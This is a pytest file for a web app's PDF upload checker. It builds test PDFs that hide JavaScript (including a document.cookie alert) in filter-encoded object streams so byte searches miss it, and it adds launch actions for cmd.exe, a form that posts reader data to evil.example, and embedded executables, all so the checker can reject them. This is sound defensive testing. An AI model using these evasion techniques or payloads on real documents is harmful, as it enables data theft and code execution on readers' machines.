"""Active content in PDFs is found on the parsed, decoded document, wherever it hides.

The review's files hid a script in an object stream behind /ASCIIHexDecode,
/ASCII85Decode or a chain of filters; the byte search passed them. These
tests build such files by hand, then one PDF per kind of active content
(names trees, page and annotation actions, launch, forms, embedded files,
XFA), and a passive document that must come through untouched.
"""

from __future__ import annotations

import base64
import io
import zlib

import pikepdf
import pytest

from competition import uploads

SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(document.cookie\\)) >>"
PAGE_OBJECTS = {
    1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
    2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    5: SCRIPT,
}
FILTERS = {
    "ASCIIHex": (b"/ASCIIHexDecode", lambda data: data.hex().encode() + b">"),
    "ASCII85": (b"/ASCII85Decode", lambda data: base64.a85encode(data) + b"~>"),
    "ASCII85 then Flate": (b"[/ASCII85Decode /FlateDecode]",
                           lambda data: base64.a85encode(zlib.compress(data)) + b"~>"),
    "ASCIIHex then ASCII85 then Flate": (
        b"[/ASCIIHexDecode /ASCII85Decode /FlateDecode]",
        lambda data: (base64.a85encode(zlib.compress(data)) + b"~>").hex().encode() + b">"),
}


def object_stream_pdf(filter_name: bytes, encode, objects: dict[int, bytes]) -> bytes:
    """A PDF 1.5 whose every object but the object stream and the xref lives inside one
    object stream encoded with `filter_name`, found through a cross-reference stream."""
    numbers = sorted(objects)
    bodies, offsets, position = [], [], 0
    for number in numbers:
        offsets.append(f"{number} {position}")
        bodies.append(objects[number])
        position += len(objects[number]) + 1
    header = " ".join(offsets).encode() + b"\n"
    encoded = encode(header + b"\n".join(bodies) + b"\n")
    stream_number, xref_number = max(numbers) + 1, max(numbers) + 2
    out = io.BytesIO()
    out.write(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    stream_offset = out.tell()
    out.write(f"{stream_number} 0 obj\n<< /Type /ObjStm /N {len(numbers)} /First {len(header)} "
              f"/Length {len(encoded)} /Filter ".encode() + filter_name + b" >>\nstream\n"
              + encoded + b"\nendstream\nendobj\n")
    xref_offset = out.tell()
    rows = []
    for number in range(xref_number + 1):
        if number in numbers:
            rows.append(bytes([2]) + stream_number.to_bytes(4, "big") + numbers.index(number)
                        .to_bytes(2, "big"))
        elif number == stream_number:
            rows.append(bytes([1]) + stream_offset.to_bytes(4, "big") + bytes(2))
        elif number == xref_number:
            rows.append(bytes([1]) + xref_offset.to_bytes(4, "big") + bytes(2))
        else:
            rows.append(bytes([0]) + bytes(4) + b"\xff\xff")
    table = b"".join(rows)
    out.write(f"{xref_number} 0 obj\n<< /Type /XRef /Size {xref_number + 1} /W [1 4 2] "
              f"/Root 1 0 R /Length {len(table)} >>\nstream\n".encode() + table
              + b"\nendstream\nendobj\n")
    out.write(f"startxref\n{xref_offset}\n%%EOF\n".encode())
    return out.getvalue()


def refused(data: bytes, match: str = "") -> str:
    with pytest.raises(uploads.UploadRejected) as caught:
        uploads.check(data, "bien-ban.pdf")
    assert match in str(caught.value.message)
    return str(caught.value.message)


@pytest.mark.parametrize("name", FILTERS)
def test_a_script_inside_an_encoded_object_stream_is_found(app, name):
    filter_name, encode = FILTERS[name]
    data = object_stream_pdf(filter_name, encode, PAGE_OBJECTS)
    assert b"JavaScript" not in data  # invisible to any search of the bytes
    with pikepdf.open(io.BytesIO(data)) as document:  # a real PDF: qpdf reads the script
        assert str(document.Root.OpenAction.S) == "/JavaScript"
    with app.test_request_context():
        refused(data, "mã JavaScript")


def test_an_encoded_object_stream_without_scripts_is_accepted_as_it_is(app):
    passive = {**PAGE_OBJECTS, 1: b"<< /Type /Catalog /Pages 2 0 R >>", 5: b"<< /Producer (x) >>"}
    data = object_stream_pdf(*FILTERS["ASCII85 then Flate"], passive)
    with app.test_request_context():
        assert uploads.check(data, "ke-hoach.pdf").data == data


def document(change) -> bytes:
    """A one-page PDF with `change(pdf)` applied."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    change(pdf)
    out = io.BytesIO()
    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()


def action(pdf: pikepdf.Pdf, kind: str, **more) -> pikepdf.Object:
    return pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name(kind), **more))


def annotation(pdf: pikepdf.Pdf, subtype: str = "/Link", **more) -> None:
    pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name(subtype), Rect=[0, 0, 50, 50], **more))]))


def embedded_file(pdf: pikepdf.Pdf) -> pikepdf.Object:
    stream = pdf.make_stream(b"MZ not really a program")
    stream.Type = pikepdf.Name.EmbeddedFile
    return pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F="x.exe", EF={"/F": stream})


ACTIVE = {
    "a script in the names tree": (lambda pdf: setattr(pdf.Root, "Names", pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=["go", action(pdf, "/JavaScript", JS="app.alert(1)")]))),
        "mã JavaScript"),
    "a script on a page's open action (AA)": (lambda pdf: setattr(
        pdf.pages[0].obj, "AA", pikepdf.Dictionary(O=action(pdf, "/JavaScript", JS="x()"))),
        "mã JavaScript"),
    "a script behind a link": (lambda pdf: annotation(pdf, A=action(pdf, "/JavaScript", JS="x()")),
                               "mã JavaScript"),
    "a program launched by a link": (lambda pdf: annotation(
        pdf, A=action(pdf, "/Launch", F="cmd.exe")), "Launch"),
    "a form that posts the reader's data": (lambda pdf: annotation(
        pdf, A=action(pdf, "/SubmitForm", F="http://evil.example/")), "SubmitForm"),
    "a form that imports data": (lambda pdf: annotation(
        pdf, A=action(pdf, "/ImportData", F="x.fdf")), "ImportData"),
    "another document opened at once": (lambda pdf: setattr(
        pdf.Root, "OpenAction", action(pdf, "/GoToR", F="x.pdf", D=[0, pikepdf.Name.Fit])),
        "GoToR"),
    "a named menu command run on opening": (lambda pdf: setattr(
        pdf.Root, "OpenAction", action(pdf, "/Named", N=pikepdf.Name.Print)), "hành động tự động"),
    "an embedded file in the names tree": (lambda pdf: setattr(pdf.Root, "Names", pikepdf.Dictionary(
        EmbeddedFiles=pikepdf.Dictionary(Names=["x.exe", embedded_file(pdf)]))), "tệp đính kèm"),
    "a file-attachment annotation": (lambda pdf: annotation(
        pdf, "/FileAttachment", FS=embedded_file(pdf)), "tệp đính kèm"),
    "an XFA form": (lambda pdf: setattr(pdf.Root, "AcroForm", pikepdf.Dictionary(
        Fields=[], XFA=pdf.make_stream(b"<xdp:xdp/>"))), "XFA"),
    "a rich-media annotation": (lambda pdf: annotation(pdf, "/RichMedia"), "đa phương tiện"),
}


@pytest.mark.parametrize("case", ACTIVE)
def test_every_kind_of_active_content_is_refused_with_its_name(app, case):
    change, words = ACTIVE[case]
    with app.test_request_context():
        message = refused(document(change), words)
    assert "bien-ban.pdf" in message


def test_web_links_are_removed_and_the_document_kept(app):
    data = document(lambda pdf: annotation(
        pdf, A=action(pdf, "/URI", URI="http://evil.example/")))
    with app.test_request_context():
        stored = uploads.check(data, "bao-cao.pdf").data
    assert stored != data
    with pikepdf.open(io.BytesIO(stored)) as kept:
        assert len(kept.pages) == 1
        assert not [o for o in kept.objects if isinstance(o, pikepdf.Dictionary) and "/URI" in o]


def test_an_open_action_that_only_shows_the_first_page_is_fine(app):
    def fit_first_page(pdf):
        pdf.Root.OpenAction = [pdf.pages[0].obj, pikepdf.Name.Fit]

    data = document(fit_first_page)
    with app.test_request_context():
        assert uploads.check(data, "ke-hoach.pdf").data == data


def test_script_words_inside_the_page_text_are_only_text(app):
    """What a page draws is not run: a report may quote `/JavaScript` in its text."""
    def text(pdf):
        pdf.pages[0].Contents = pdf.make_stream(b"BT /F1 12 Tf (/S /JavaScript /JS x) Tj ET")

    data = document(text)
    with app.test_request_context():
        assert uploads.check(data, "bai-viet.pdf").data == data


@pytest.mark.parametrize("broken", [
    b"%PDF-1.4\n1 0 obj << /Type /Catalog",  # cut off
    b"%PDF-1.7\n" + b"\x00" * 200,
])
def test_a_pdf_qpdf_cannot_read_is_refused(app, broken):
    with app.test_request_context():
        refused(broken, "không kiểm tra được")
